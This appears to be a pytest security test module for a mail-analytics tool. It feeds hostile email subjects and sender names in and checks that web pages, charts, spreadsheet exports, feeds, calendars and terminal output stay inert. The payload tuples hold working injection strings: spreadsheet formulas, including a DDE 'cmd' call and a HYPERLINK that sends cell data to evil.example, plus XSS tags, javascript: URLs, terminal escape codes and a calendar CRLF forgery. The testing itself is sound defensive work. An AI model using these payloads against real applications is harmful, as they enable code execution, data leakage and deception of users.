"""A mailbox whose writers mean harm: nothing of theirs is ever more than words.

Letters are taken in like any others, by an mbox; then everything that can be looked at, carried
away or subscribed to is fetched, and read the way a browser, a spreadsheet, a feed reader, a
calendar or a terminal would read it.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from email.header import Header
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit
from xml.etree import ElementTree

import pytest
from icalendar import Calendar
from installations import Installation, install, letter
from openpyxl import load_workbook
from servers import Delivery
from small_archive import run, take_in
from test_datasette import Site, site_of

from inbox_agent.catalogue import TABLES, VIEWS
from inbox_agent.catalogue.queries import QUERIES

pytestmark = pytest.mark.pages

#: What every hostile text holds, so that one can tell where it came out.
CANARY = "zq7canary"
SUBJECTS = (
    f'=HYPERLINK("http://evil.example/?x="&A1,"{CANARY}")',
    f"+1+cmd|' /C calc'!A0 {CANARY}",
    f"@SUM(1+1) {CANARY}",
    f"-2+3 {CANARY}",
    f"<script>alert('{CANARY}')</script>",
    f'"><img src=x onerror=alert("{CANARY}")>',
    f"</title></svg></textarea><iframe src=//evil.example/{CANARY}>",
    f'{{"href": "http://evil.example/login", "label": "{CANARY}"}}',
    f"https://evil.example/{CANARY}",
    f"javascript:alert('{CANARY}')",
    f"{{{{ 7 * 7 }}}} {{% raw %}} {CANARY}",
    f"\u202egnp.{CANARY}\u202c \u2066x\u2069 \u200f",
    f"\x1b[31m\x1b]0;{CANARY}\x07 \x9b2J \x00 \x08",
    f"]]> <!-- {CANARY} --> <r><t>=1+1</t></r> &lt;b&gt; &#x3c;i&#x3e;",
    f"{CANARY}\r\nBEGIN:VEVENT\r\nSUMMARY:forged\r\nEND:VEVENT",
    f"{CANARY}; X-Forged: 1, x\\n y\\, z",
    f"[{CANARY}](http://evil.example) **bold** <!channel> @everyone `x` [/red]",
    f"＝1+1 {CANARY}",  # noqa: RUF001 - a full-width sign begins a formula too
    CANARY + " long" * 2_000,
)
NAMES = (
    f'=cmd|"{CANARY}"',
    f"<b onclick=alert(1)>{CANARY}</b>",
    f"\u202e{CANARY}\x1b[7m",
    f'{{"img_src": "http://evil.example/{CANARY}.png"}}',
)
PARTNERS = ("evil.example", "b.example")
KNOWN_UNTIL = datetime(2024, 7, 2, 12, 0, tzinfo=UTC)
_FIRST, _DAY = datetime(2024, 1, 8, 9, 0, tzinfo=UTC), timedelta(days=1)
_CONFIG = """
[publish]
subjects = true
people = "full"
our_people = true
"""


def _written(text: str) -> str:
    """A header value that carries any character, as mail programs write it (RFC 2047)."""
    return Header(text.replace("\r\n", " \x0b"), "utf-8").encode(linesep="\r\n", maxlinelen=70)


def _letters() -> Iterator[Delivery]:
    """Each subject from each partner, answered or not, and by a writer with each name."""
    for number in range(4 * len(SUBJECTS)):
        partner = PARTNERS[number % 2]
        name = NAMES[number % len(NAMES)]
        subject = SUBJECTS[number % len(SUBJECTS)]
        at = _FIRST + number * 2 * _DAY
        author = f"{_written(name)} <kim{number % 5}@{partner}>"
        key = f"{number}.{CANARY}@{partner}"
        asked = letter(author, "ana@acme.example", at, key, subject=_written(subject))
        yield Delivery("INBOX", asked, at)
        if number % 3:
            then, cited = at + timedelta(hours=3), f"In-Reply-To: <{key}>"
            ours = f"{_written(NAMES[0])} <ana@acme.example>"
            reply = letter(
                ours, author, then, f"re-{key}", cited, subject="Re: " + _written(subject)
            )
            yield Delivery("Sent", reply, then)


@dataclass(frozen=True)
class Place:
    """An installation that took the letters in, a frozen quarter, and Datasette on top."""

    installation: Installation
    site: Site


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    loop = asyncio.new_event_loop()
    found = install(tmp_path_factory.mktemp("hostile"), more=_CONFIG)
    take_in(found, list(_letters()), KNOWN_UNTIL, mailbox="import")
    assert run(found, "review", "2024-Q1").exit_code == 0
    assert run(found, "review", "2024-Q2").exit_code == 0
    yield Place(found, site_of(found.published, loop))
    loop.close()


def test_the_letters_came_in_with_their_words(place: Place) -> None:
    subjects = place.installation.query("select distinct subject from messages where side = 'them'")
    assert sum(CANARY in (subject or "") for subject in subjects) == len(SUBJECTS)
    assert any("<script>" in subject for subject in subjects)
    names = place.installation.query("select name from contacts where side = 'them'")
    assert any(CANARY in (name or "") for name in names)


# -- pages ------------------------------------------------------------------------------------


@dataclass
class Seen(HTMLParser):
    """What a browser would make of a page: elements that run or load, and links."""

    faults: list[str] = field(default_factory=list)
    links: list[str] = field(default_factory=list)
    texts: int = 0
    scripts: bool = False

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self._within: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("iframe", "object", "embed", "base", "applet"):
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            self._attribute(tag, name, value or "")
        if tag in ("script", "style", "title", "bdi"):
            self._within.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self._within and self._within[-1] == tag:
            self._within.pop()

    def handle_data(self, data: str) -> None:
        if "script" in self._within and CANARY in data:
            self.faults.append("a letter's words in a script")
        self.texts += data.count(CANARY)
        self.faults += [f"U+{ord(c):04X}" for c in data if _is_control(c)]

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or (name == "style" and CANARY in value):
            self.faults.append(f"<{tag} {name}>")
        self.faults += [f"{name}: U+{ord(c):04X}" for c in value if _is_control(c)]
        if name in ("href", "src", "srcset", "action", "formaction", "data", "xlink:href"):
            self.links.append(value)
            target = urlsplit(value.strip())
            if target.scheme not in ("", "http", "https") or "evil.example" in target.netloc:
                self.faults.append(f"<{tag} {name}={value[:80]}>")


def _is_control(character: str) -> bool:
    """Whether it is a control or turns the line around; ends of lines and tabs are neither."""
    kind = unicodedata.category(character)
    turns = unicodedata.bidirectional(character) in {
        *("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"),
    }
    return turns or (kind == "Cc" and character not in "\n\r\t")


def _pages() -> list[str]:
    own = ["/", "/?q=" + quote(SUBJECTS[5]), "/-/reviews", "/-/feeds", "/-/review/2024-Q2"]
    for partner in PARTNERS:
        own += [f"/-/partner/{partner}", f"/-/why/{partner}"]
        own += [f"/-/why/{partner}/{figure}" for figure in _FIGURES]
        own += [f"/-/chart/{partner}/{name}" for name in _CHARTS]
        own += [f"/-/review/2024-Q2/{partner}", f"/-/review/2024-Q2/{partner}/for-partner"]
    tables = [f"/partners/{item.name}?_size=max" for item in (*TABLES, *VIEWS)]
    queries = [f"/partners/{query.name}?owner=" for query in QUERIES]
    return [*own, "/partners", "/partners/conversations?_search=canary", *tables, *queries]


_FIGURES = ("ours_p50_seconds", "theirs_p90_seconds", "fairness", "longest_gap_working_days",
            "sent_coverage", "opened_by_us", "their_people", "state")  # fmt: skip
_CHARTS = ("response_times", "survival", "timeline", "rhythm")


@pytest.mark.parametrize("path", _pages())
def test_no_page_runs_loads_or_links_what_a_letter_says(path: str, place: Place) -> None:
    response = place.site.get(path)
    assert response.status_code == 200, path
    assert "content-security-policy" in response.headers or path.startswith("/partners")
    seen = Seen()
    seen.feed(response.text)
    assert seen.faults == []
    if not path.startswith("/partners"):
        assert "<script" not in response.text
        assert len(response.text) < 1_500_000


@pytest.mark.parametrize("path", ["/", "/-/partner/evil.example", "/partners/messages?_size=max",
                                  "/-/why/evil.example/ours_p50_seconds"])  # fmt: skip
def test_the_words_are_there_all_the_same(path: str, place: Place) -> None:
    seen = Seen()
    seen.feed(place.site.get(path).text)
    assert seen.texts > 0


@pytest.mark.parametrize("name", _CHARTS)
@pytest.mark.parametrize("partner", PARTNERS)
def test_pictures_hold_nothing_that_runs_or_loads(name: str, partner: str, place: Place) -> None:
    response = place.site.get(f"/-/chart/{partner}/{name}.svg")
    assert response.status_code == 200
    for element in ElementTree.fromstring(response.text).iter():  # noqa: S314 - our own answer
        tag = element.tag.rpartition("}")[2]
        assert tag not in ("script", "foreignObject", "image", "a", "iframe")
        for attribute, value in element.attrib.items():
            assert not attribute.rpartition("}")[2].startswith("on")
            assert "evil.example" not in value or not attribute.endswith("href")
    spec = place.site.get(f"/-/chart/{partner}/{name}.json").json()
    assert not _keys(spec) & {"url", "href", "src", "image"}


def _keys(value: Any) -> set[str]:
    """Every key of a chart but those of its data, by which Vega would load or reckon something."""
    if isinstance(value, list):
        return set().union(*map(_keys, value))
    if not isinstance(value, dict):
        return set()
    inner = (_keys(each) for key, each in value.items() if key not in ("values", "datasets"))
    return set(value).union(*inner)


# -- files ------------------------------------------------------------------------------------

_FORMULA = re.compile(r"\s*[=+\-@＝＋－＠\t\r]")  # noqa: RUF001 - full-width ones as well
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?")


def _is_safe(cell: str) -> bool:
    return not _FORMULA.match(cell) or bool(_NUMBER.fullmatch(cell))


@pytest.mark.parametrize("item", [*TABLES, *VIEWS], ids=lambda item: item.name)
def test_no_cell_of_a_download_is_a_formula(item: Any, place: Place) -> None:
    for row in place.site.csv(f"/partners/{item.name}.csv?_dl=1"):
        assert [cell for cell in row if not _is_safe(cell)] == []
        assert [c for cell in row for c in cell if _is_control(c)] == []


def test_no_cell_of_an_export_is_a_formula(place: Place, tmp_path: Path) -> None:
    assert run(place.installation, "export", "--to", tmp_path / "csv").exit_code == 0
    for path in (tmp_path / "csv").iterdir():
        text = path.read_text("utf-8-sig")
        cells = (cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row)
        assert [cell for cell in cells if not _is_safe(cell)] == []


def _faults_of_workbook(octets: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(octets))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
        or cell.hyperlink
        or (isinstance(cell.value, str) and any(map(_is_control, cell.value)))
    ]


@pytest.mark.parametrize(
    "path",
    [
        *(f"/-/xlsx/{table}.xlsx" for table in ("messages", "contacts", "waiting_on_us")),
        "/-/review/2024-Q2.xlsx",
    ],
)
def test_a_workbook_of_a_page_holds_no_formula_and_no_link(path: str, place: Place) -> None:
    response = place.site.get(path)
    assert response.status_code == 200
    assert _faults_of_workbook(response.content) == []


def test_an_exported_workbook_holds_no_formula_and_no_link(place: Place, tmp_path: Path) -> None:
    done = run(place.installation, "export", "--format", "xlsx", "--to", tmp_path)
    assert done.exit_code == 0
    (book,) = tmp_path.glob("*.xlsx")
    assert _faults_of_workbook(book.read_bytes()) == []


def test_the_sheets_of_a_review_hold_no_live_markup(place: Place, tmp_path: Path) -> None:
    assert run(place.installation, "review", "2024-Q2", "--to", tmp_path).exit_code == 0
    for path in tmp_path.rglob("*.md"):
        text = path.read_text("utf-8")
        assert not re.search(r"(?<!\\)\]\(|(?<!\\)<[a-z!/]", text), path.name
        assert [c for c in text if _is_control(c)] == []


# -- feeds, calendars, programs ---------------------------------------------------------------


def test_the_feed_is_plain_text_in_its_own_elements(place: Place) -> None:
    response = place.site.get("/-/alerts.atom")
    assert response.status_code == 200
    atom = "{http://www.w3.org/2005/Atom}"
    known = ("feed", "id", "title", "subtitle", "updated", "published", "link", "author", "name",
             "entry", "summary", "content", "category", "generator", "uri", "rights")  # fmt: skip
    for element in ElementTree.fromstring(response.content).iter():  # noqa: S314 - our own answer
        assert element.tag.removeprefix(atom) in known
        assert element.get("type", "text") in ("text", "application/atom+xml", "text/html")
        assert "evil.example" not in urlsplit(element.get("href", "")).netloc
        assert [c for c in element.text or "" if _is_control(c)] == []


def test_the_calendar_has_no_entry_a_letter_wrote(place: Place) -> None:
    response = place.site.get("/-/due.ics")
    assert response.status_code == 200
    assert b"SUMMARY:forged" not in response.content
    calendar = Calendar.from_ical(response.content)
    for event in calendar.walk("VEVENT"):
        assert str(event["SUMMARY"]) != "forged"
        assert "X-FORGED" not in event
    for line in response.content.split(b"\r\n"):
        assert len(line) <= 75
        assert b"\n" not in line


@pytest.mark.parametrize("path", ["/-/api/partners.json", "/-/api/waiting.json",
                                  "/-/api/alerts.json", "/-/api/partner/evil.example.json",
                                  "/partners/messages.json"])  # fmt: skip
def test_json_is_json_and_says_so(path: str, place: Place) -> None:
    response = place.site.get(path)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/json")
    response.json()


# -- terminal ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["status"],
        ["partners"],
        ["explain", "evil.example"],
        ["explain", "evil.example", "ours_p50_seconds"],
        ["review", "2024-Q2"],
        ["notify", "--print"],
        ["check"],
    ],
    ids=" ".join,
)
def test_no_command_lets_a_letter_colour_or_move_the_terminal(
    args: list[str], place: Place
) -> None:
    done = run(place.installation, *args)
    assert [c for c in done.output if _is_control(c)] == []
    assert "Traceback" not in done.output
